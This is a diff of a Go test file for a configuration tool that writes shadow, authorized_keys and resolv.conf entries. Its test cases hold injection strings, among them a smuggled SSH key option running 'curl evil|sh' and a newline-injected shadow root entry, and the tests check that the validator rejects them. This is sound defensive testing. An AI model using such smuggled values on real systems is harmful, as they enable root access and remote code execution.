@@ -172,9 +172,9 @@ func TestRunRejectsInjection(t *testing.T) {
 		{"passwd_hash", func(i *lyconf.Instance) { i.PasswdHash = ptr("$6$x\nevil::0:0:99999:7:::") }, "etc/shadow", "control character"},
 		{"passwd_hash", func(i *lyconf.Instance) { i.PasswdHash = ptr("$6$x$y:0:0:99999") }, "etc/shadow", "':'"},
 		{"public_key", func(i *lyconf.Instance) {
-			i.PublicKey = ptr(key + "\ncommand=\"curl evil|sh\",no-pty " + key)
-		}, "root/.ssh", "options"},
-		{"public_key", func(i *lyconf.Instance) { i.PublicKey = ptr(key + "\nevil line") }, "root/.ssh", "line 2"},
+			i.PublicKey = ptr(key + "\rcommand=\"curl evil|sh\",no-pty " + key)
+		}, "root/.ssh", "no valid key: line 1: control character"},
+		{"public_key", func(i *lyconf.Instance) { i.PublicKey = ptr("evil line\n\x00" + key) }, "root/.ssh", "line 1: not an ssh public key; line 2: control character"},
 		{"nameservers", func(i *lyconf.Instance) { i.Nameservers = ptr("8.8.8.8\noptions ndots:15 timeout:0") }, "etc/resolv.conf", `"options"`},
 	} {
 		t.Run(tc.name+"/"+tc.detail, func(t *testing.T) {
@@ -234,6 +234,14 @@ func (f *fakeNet) AddAddr(l netconf.Link, a netip.Prefix) error {
 }
 func (f *fakeNet) SetUp(l netconf.Link) error {
 	f.calls = append(f.calls, "up "+l.Name)
+	return nil
+}
+func (f *fakeNet) DelAddr(l netconf.Link, a netip.Prefix) error {
+	f.calls = append(f.calls, fmt.Sprintf("del %s %s", l.Name, a))
+	return nil
+}
+func (f *fakeNet) StopClient(c netconf.Client) error {
+	f.calls = append(f.calls, fmt.Sprintf("stop %d", c.PID))
 	return nil
 }
 func (f *fakeNet) SetDefault(l netconf.Link, gw netip.Addr) error {
@@ -315,5 +323,34 @@ func TestMissingSettingsUntouched(t *testing.T) {
 	}
 	if diff := cmp.Diff(before, tree(t, root)); diff != "" {
 		t.Errorf("wrote something:\n%s", diff)
+	}
+}
+
+// TestPublicKeyFreeText: the owner's text in the authorized_keys format
+// (comments, options, several keys) is written; a line that is not a key
+// is refused by number, never quoted, and the step fails while the valid
+// keys are in place.
+func TestPublicKeyFreeText(t *testing.T) {
+	k1, k2 := pubKey(t), pubKey(t)
+	const secret = "correct horse battery staple"
+	text := "# owner's keys\r\n" + `from="10.0.0.0/8" ` + k1 + "\r\n\r\n" + secret + "\r\n" + `command="/usr/bin/backup",no-pty ` + k2 + "\r\n"
+	want := "# owner's keys\n" + `from="10.0.0.0/8" ` + k1 + "\n" + `command="/usr/bin/backup",no-pty ` + k2 + "\n"
+	root, _ := newRoot(t)
+	for i, wantLine := range []string{
+		"public_key: error: refused line 4: not an ssh public key; the 2 valid key(s) were written",
+		"public_key: error: refused line 4: not an ssh public key; the 2 valid key(s) are in place",
+	} {
+		steps := New(Config{Root: root, NoNetwork: true}, zaptest.NewLogger(t)).Run(context.Background(), &lyconf.Instance{PublicKey: ptr(text)})
+		if got := steps[1].String(); got != wantLine {
+			t.Errorf("run %d: %q, want %q", i+1, got, wantLine)
+		}
+		if b, err := os.ReadFile(filepath.Join(root, "root/.ssh/authorized_keys")); err != nil || string(b) != want {
+			t.Errorf("run %d: authorized_keys = %q, %v; want %q", i+1, b, err, want)
+		}
+	}
+	// Only good lines: the step is a plain change.
+	steps := New(Config{Root: root, NoNetwork: true}, zaptest.NewLogger(t)).Run(context.Background(), &lyconf.Instance{PublicKey: ptr(k2 + "\n# second\n" + k1)})
+	if got := steps[1].String(); got != "public_key: changed" {
+		t.Errorf("good text: %q", got)
 	}
 }
